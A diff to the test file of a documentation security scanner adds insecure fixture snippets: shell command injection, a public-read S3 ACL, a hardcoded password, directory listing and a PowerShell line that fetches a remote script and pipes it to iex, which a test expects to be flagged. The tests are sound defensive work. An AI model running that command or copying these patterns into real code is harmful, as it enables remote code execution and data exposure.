@@ -28,13 +28,18 @@ def scan(text: str, label: str):
 
 OTHERS = {"sql": "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;", "java": 'Runtime.getRuntime().exec("ls " + d);',
           "cs": 'Process.Start("cmd.exe", "/c dir " + path);', "php": 'system("ls " . $_GET["d"]);',
-          "go": 'exec.Command("sh", "-c", "ls "+dir)', "ruby": 'system("ls #{dir}")'}
+          "go": 'exec.Command("sh", "-c", "ls "+dir)', "ruby": 'system("ls #{dir}")',
+          "rust": 'Command::new("sh").arg("-c").arg(format!("ls {}", d)).status()?;',
+          "tf": 'resource "aws_s3_bucket_acl" "b" {\n  acl = "public-read"\n}\n',
+          "ps1": '$p = ConvertTo-SecureString "Wint3r-2024!" -AsPlainText -Force',
+          "nginx": "autoindex on;", "apacheconf": "Options +Indexes"}
 
 
 @pytest.mark.parametrize("label, grammar", [
     ("js", "tree_sitter_javascript"), ("ts", "tree_sitter_typescript"), ("sql", "tree_sitter_sql"),
     ("java", "tree_sitter_java"), ("cs", "tree_sitter_c_sharp"), ("php", "tree_sitter_php"), ("go", "tree_sitter_go"),
-    ("ruby", "tree_sitter_ruby"),
+    ("ruby", "tree_sitter_ruby"), ("rust", "tree_sitter_rust"), ("tf", "tree_sitter_hcl"),
+    ("ps1", "tree_sitter_powershell"), ("nginx", "crossplane"), ("apacheconf", "apacheconfig"),
 ])
 def test_missing_grammar_gives_a_not_analysed_note(monkeypatch, clear_caches, label: str, grammar: str) -> None:
     real = importlib.util.find_spec
@@ -43,7 +48,8 @@ def test_missing_grammar_gives_a_not_analysed_note(monkeypatch, clear_caches, la
     assert not report.analysed
     (diagnostic,) = report.diagnostics
     assert diagnostic.code == "not-analysed" and diagnostic.line == 10
-    assert "grammar is not installed; install docsec[languages]" in diagnostic.message
+    assert ("grammar is not installed; install docsec[languages]" in diagnostic.message or
+            "reader (" in diagnostic.message and ") is not installed; install docsec[languages]" in diagnostic.message)
     assert diagnostic.message.startswith(f"{label} block not analysed: ")
 
 
@@ -85,3 +91,13 @@ def test_scanning_python_and_shell_imports_no_tree_sitter() -> None:
             "print(sorted(name for name in sys.modules if name.startswith('tree_sitter')))\n")
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert result.stdout.strip() == "[]"
+
+
+def test_a_powershell_block_without_its_grammar_keeps_its_shell_findings(monkeypatch, clear_caches) -> None:
+    real = importlib.util.find_spec
+    monkeypatch.setattr(importlib.util, "find_spec",
+                        lambda name, *a: None if name == "tree_sitter_powershell" else real(name, *a))
+    report = scan("iwr https://example.com/i.ps1 | iex\n", "powershell")
+    assert [(f.rule_id, f.line) for f in report.findings] == [("DSS001", 10)]
+    (diagnostic,) = report.diagnostics
+    assert diagnostic.message.endswith("only the shell and language-independent rules ran")
